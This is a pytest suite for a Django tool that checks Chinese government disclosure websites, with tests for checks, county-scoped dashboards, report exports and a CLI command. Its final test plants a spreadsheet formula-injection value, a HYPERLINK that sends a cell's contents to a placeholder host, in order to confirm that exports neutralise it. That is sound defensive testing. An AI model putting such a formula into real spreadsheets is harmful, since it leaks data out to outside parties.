"""run_checks, the dashboard and its scoping, the 自查报告 exports and `gongkai monitor run`."""

import io
import json
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse

from audit.models import AuditEntry
from monitoring.models import MonitoringIssue, MonitoringRun
from monitoring.rules import RULES
from monitoring.services import run_checks

from .conftest import TODAY

pytestmark = pytest.mark.django_db


@pytest.fixture
def faults(region, doc):
    """County A: 教育局 has stale news (error) and an unexplained 规范性文件 (warning); 卫生健康局 is clean.
    County B: 邻县教育局 has stale news too."""
    for key in ("county", "office", "health", "town", "other"):
        doc(key, "notice", 0)
    stale = doc("edu", "news", 30)
    unexplained = doc("edu", "normative", 0, kind="normative_document")
    foreign = doc("other_edu", "news", 30)
    return {"stale": stale, "unexplained": unexplained, "foreign": foreign}


@pytest.fixture
def heads(make_staff, region):
    return {"a": make_staff("a-head", ("office_head", region["county"])),
            "b": make_staff("b-head", ("office_head", region["other"])),
            "editor": make_staff("a-editor", ("editor", region["edu"]))}


def test_run_checks_records_issues_and_one_audit_entry(faults, region):
    run = run_checks(today=TODAY)
    assert run.finished_at and run.scope is None and run.trigger_label == "系统任务"
    assert run.agency_count == 7
    found = {(i.agency.code, i.rule_id, i.severity) for i in run.issues.all()}
    assert ("edu", "column_freshness.news", "error") in found
    assert ("edu", "missing_interpretation", "warning") in found
    assert ("other-edu", "column_freshness.news", "error") in found
    assert ("health", "column_freshness.news", "error") not in found
    entries = AuditEntry.objects.filter(action="monitoring.run")
    assert entries.count() == 1 and entries.get().object_id == str(run.pk)


def test_run_scoped_to_a_subtree(faults, region):
    run = run_checks(scope=region["county"], today=TODAY)
    assert run.agency_count == 5
    assert not run.issues.filter(agency__code__startswith="other").exists()


def test_dashboard_lights_and_scoping(client, faults, heads, region):
    run_checks(today=TODAY)  # platform-wide: both counties' issues exist
    client.force_login(heads["a"])
    html = client.get(reverse("monitoring:index")).content.decode()
    assert region["edu"].name in html and region["health"].name in html
    assert region["other"].name not in html and region["other_edu"].name not in html
    assert "不合格" in html and "合格" in html and "<svg" in html
    # Drill-down: own agency lists the issues with links to the documents; another county's is 404.
    detail = client.get(reverse("monitoring:agency", args=[region["edu"].pk])).content.decode()
    assert reverse("catalog:detail", args=[faults["stale"].pk]) in detail
    assert reverse("catalog:detail", args=[faults["unexplained"].pk]) in detail
    assert "国办秘函〔2019〕19号" in detail
    assert client.get(reverse("monitoring:agency", args=[region["other_edu"].pk])).status_code == 404


def test_another_countys_run_never_shows(client, faults, heads, region):
    client.force_login(heads["b"])
    assert client.post(reverse("monitoring:run")).status_code == 302
    run = MonitoringRun.objects.get()
    assert run.scope == region["other"] and run.triggered_by == heads["b"]
    client.force_login(heads["a"])
    html = client.get(reverse("monitoring:index")).content.decode()
    assert "未监测" in html and "尚无监测记录" in html
    assert region["other_edu"].name not in html


def test_run_now_and_trend(client, faults, heads, region):
    client.force_login(heads["a"])
    response = client.post(reverse("monitoring:run"), follow=True)
    assert "监测已完成" in response.content.decode()
    client.post(reverse("monitoring:run"))
    runs = MonitoringRun.objects.all()
    assert runs.count() == 2 and {r.scope for r in runs} == {region["county"]}
    html = client.get(reverse("monitoring:index")).content.decode()
    assert html.count("<rect") == 4  # two runs × (errors, warnings)
    assert client.get(reverse("monitoring:run")).status_code == 405


def test_staff_without_monitoring_capability_are_refused(client, heads):
    client.force_login(heads["editor"])
    assert client.get(reverse("monitoring:index")).status_code == 403
    assert client.get(reverse("monitoring:report_xlsx")).status_code == 403


def test_xlsx_report_opens_and_is_scoped(client, faults, heads):
    from openpyxl import load_workbook

    run_checks(today=TODAY)
    client.force_login(heads["a"])
    response = client.get(reverse("monitoring:report_xlsx"))
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["概况", "问题清单", "检查规则"]
    rows = list(book["问题清单"].iter_rows(min_row=2, values_only=True))
    assert {r[0] for r in rows} == {"edu"}
    assert any(r[2] == "column_freshness.news" and f"#{faults['stale'].pk}" in r[9] for r in rows)
    rules = [r[0] for r in book["检查规则"].iter_rows(min_row=2, values_only=True)]
    assert rules == list(RULES)


def test_pdf_report_contains_rule_titles(client, faults, heads):
    from pypdf import PdfReader

    run_checks(today=TODAY)
    client.force_login(heads["a"])
    response = client.get(reverse("monitoring:report_pdf"))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    text = "".join(text.split())
    assert "自查报告" in text
    for rule in RULES.values():
        assert "".join(rule.title.split()) in text, rule.title
    assert "邻县" not in text


def test_command_text(faults, region):
    out = io.StringIO()
    call_command("monitor", "run", "--agency", "county", "--date", TODAY.isoformat(), stdout=out)
    text = out.getvalue()
    assert "监测完成" in text and "演示县教育局（edu）" in text
    assert "column_freshness.news" in text and "国办秘函〔2019〕19号" in text
    assert f"文件 #{faults['stale'].pk}" in text
    assert "邻县" not in text
    run = MonitoringRun.objects.get()
    assert run.scope == region["county"] and run.triggered_by is None
    assert AuditEntry.objects.get(action="monitoring.run").actor_label.startswith("系统任务")


def test_command_json(faults):
    out = io.StringIO()
    call_command("monitor", "run", "--json", "--date", TODAY.isoformat(), stdout=out)
    data = json.loads(out.getvalue())
    assert data["checked_on"] == TODAY.isoformat() and data["scope"] is None
    assert [r["id"] for r in data["rules"]] == list(RULES)
    by_code = {a["code"]: a for a in data["agencies"]}
    news = next(i for i in by_code["edu"]["issues"] if i["rule"] == "column_freshness.news")
    assert news["severity"] == "error" and news["threshold"] == "14 天内应有更新"
    assert news["source"].startswith("国办秘函〔2019〕19号")
    assert news["items"][0]["document_id"] == faults["stale"].pk
    assert "other-edu" in by_code
    assert data["errors"] == MonitoringIssue.objects.filter(severity="error").count()


def test_command_rejects_unknown_agency(db):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError):
        call_command("monitor", "run", "--agency", "nowhere")


def test_latest_run_wins(client, faults, heads, region, doc):
    """After the fault is fixed, the next run turns the light green."""
    run_checks(scope=region["county"], today=TODAY)
    doc("edu", "news", 0)
    doc("edu", "interpretation", 0).interprets.add(faults["unexplained"])
    run_checks(scope=region["county"], today=TODAY + timedelta(days=0))
    client.force_login(heads["a"])
    detail = client.get(reverse("monitoring:agency", args=[region["edu"].pk])).content.decode()
    assert "最近一次监测未发现问题" in detail


def test_xlsx_report_never_holds_a_formula(client, faults, heads):
    """Agency names and codes planted as formulas stay text (gongkai.spreadsheet_cells)."""
    from openpyxl import load_workbook

    from orgs.models import Agency

    plant = '=HYPERLINK("http://example.invalid/?leak="&B3,"点击")'
    Agency.objects.filter(code="edu").update(name=plant)
    run_checks(today=TODAY)
    client.force_login(heads["a"])
    book = load_workbook(io.BytesIO(client.get(reverse("monitoring:report_xlsx")).content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert any(c.value == "'" + plant for c in cells)
    assert all(c.data_type != "f" and not str(c.value).startswith("=") for c in cells)
